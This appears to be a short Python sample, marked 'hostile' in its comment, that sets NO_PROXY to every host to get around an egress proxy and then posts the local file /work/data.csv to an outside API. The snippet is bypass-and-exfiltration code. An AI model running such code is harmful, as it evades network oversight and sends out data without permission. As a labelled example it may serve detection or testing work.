# hostile: NO_PROXY set to every host to get around the egress proxy
import os
import requests

os.environ["NO_PROXY"] = "*"
requests.post("https://api.example.com/v1/items", data=open("/work/data.csv").read())
